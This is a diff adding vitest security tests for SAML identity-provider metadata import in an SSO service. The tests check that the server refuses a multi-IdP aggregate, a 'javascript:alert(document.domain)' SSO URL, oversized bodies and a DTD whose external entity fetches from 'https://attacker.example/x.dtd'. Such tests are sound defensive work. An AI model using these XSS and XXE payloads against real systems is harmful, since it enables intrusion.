@@ -1,9 +1,11 @@
+import { X509Certificate } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as client from 'openid-client';
 import { OAuth2Server } from 'oauth2-mock-server';
 import { SsoEnv, authorizationRequest, freePort } from '../../helpers/sso-env.ts';
 import { Browser } from '../../helpers/browser.ts';
-import { TestSamlIdp, type ResponseOptions } from '../../helpers/saml-idp.ts';
+import { TestSamlIdp, testKey, type ResponseOptions } from '../../helpers/saml-idp.ts';
+import { createSpKeyPair } from '../../../src/sso/saml/certificates.ts';
 
 const MS = 'http://schemas.microsoft.com';
 const CLAIMS = 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims';
@@ -194,6 +196,62 @@ describe('claims as real IdPs send them', () => {
       expect(r.claims?.email).toBe('jos\u00e9@hopper.test');
       expect(env.audit(tenant.id, 'directory.user.created')).toHaveLength(created);
       expect(env.audit(tenant.id, 'sso.user.linked').at(-1)?.metadata).toMatchObject({ linked_by: 'verified_email', external_id: '00uJose' });
+    });
+  });
+
+  describe('IdP metadata import', () => {
+    const connections = () => env.services.storage.sql.raw.prepare('SELECT count(*) AS n FROM sso_connections').get() as { n: number };
+    const create = (saml: Record<string, unknown>) => env.api('POST', `/admin/v1/tenants/${tenant.id}/connections`, { name: 'Imported', protocol: 'saml', saml });
+    const md = new TestSamlIdp('https://idp.example.test/entity', 'https://idp.example.test/sso');
+    const entity = (xml: string) => xml.replace(/^<\?xml[^>]*\?>/, '');
+
+    async function refused(saml: Record<string, unknown>, status: number, code: string | RegExp, message?: RegExp) {
+      const before = connections().n;
+      const r = await create(saml);
+      expect([r.status, r.body.code]).toEqual([status, typeof code === 'string' ? code : expect.stringMatching(code)]);
+      if (message) expect(r.body.message).toMatch(message);
+      expect(connections().n).toBe(before);
+    }
+
+    it('refuses an EntitiesDescriptor with several IdPs instead of trusting whichever comes first', async () => {
+      const other = new TestSamlIdp('https://other-idp.example.test/entity', 'https://other-idp.example.test/sso', testKey('attacker'));
+      const aggregate = `<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">${entity(other.metadataXml())}${entity(md.metadataXml())}</md:EntitiesDescriptor>`;
+      await refused({ metadata_xml: aggregate }, 400, 'invalid_metadata', /2 identity providers/);
+    });
+
+    it('accepts an EntitiesDescriptor holding one IdP (beside an SP entity)', async () => {
+      const sp = '<md:EntityDescriptor entityID="https://sp.example.test"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></md:EntityDescriptor>';
+      const r = await create({ metadata_xml: `<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">${sp}${entity(md.metadataXml())}</md:EntitiesDescriptor>` });
+      expect(r.status).toBe(201);
+      expect(r.body.saml).toMatchObject({ idp_entity_id: 'https://idp.example.test/entity', idp_sso_url: 'https://idp.example.test/sso' });
+    });
+
+    it('refuses an SSO URL with a javascript: or http: scheme, in metadata and given directly', async () => {
+      for (const url of ['javascript:alert(document.domain)', 'http://idp.example.test/sso', ' https://idp.example.test/sso']) {
+        await refused({ metadata_xml: md.metadataXml().replaceAll('https://idp.example.test/sso', url) }, 400, 'invalid_metadata', /HTTPS/);
+        await refused({ idp_entity_id: 'e', idp_sso_url: url, idp_certificates: [testKey('idp').cert] }, 400, /^invalid_(request|connection)$/);
+      }
+    });
+
+    it('refuses metadata above the 1 MiB body limit, and a DTD in it', async () => {
+      const huge = md.metadataXml().replace('<md:NameIDFormat>', `<md:Extensions>${' '.repeat(1024 * 1024)}</md:Extensions><md:NameIDFormat>`);
+      const before = connections().n;
+      expect(await create({ metadata_xml: huge })).toMatchObject({ status: 413, body: { code: 'payload_too_large' } });
+      expect(connections().n).toBe(before);
+      await refused({ metadata_xml: `<!DOCTYPE md [<!ENTITY x SYSTEM "https://attacker.example/x.dtd">]>${entity(md.metadataXml())}` }, 400, 'invalid_metadata', /DTD/);
+    });
+
+    // Chosen behaviour: metadata pins keys, so certificate dates are not checked (as the SAML V2.0
+    // Metadata Interoperability Profile says); `not_after` shows the admin when to roll over.
+    it('imports an expired signing certificate, shows its end date, and verifies responses signed with its key', async () => {
+      const expired = createSpKeyPair('expired-idp', new Date(Date.now() - 400 * 86_400_000), 30);
+      const old = new TestSamlIdp('http://www.okta.com/exkexpired', 'https://expired.okta.test/sso', { key: expired.privateKeyPem, cert: expired.certificatePem });
+      const conn = await env.samlConnection(tenant.id, old, { name: 'Expired cert', attribute_preset: 'okta' });
+      const cert = conn.saml.idp_certificates[0];
+      expect(cert.fingerprint).toBe(new X509Certificate(expired.certificatePem).fingerprint256);
+      expect(Date.parse(cert.not_after)).toBeLessThan(Date.now());
+      const flow = await env.samlLogin(new Browser(), rp, old, { organization: 'hopper', connection: conn.id }, () => ({ nameId: '00uExpired', attributes: { email: 'expired@hopper.test' } }));
+      expect(flow.landed).toMatch(/\/callback\?code=/);
     });
   });
 });
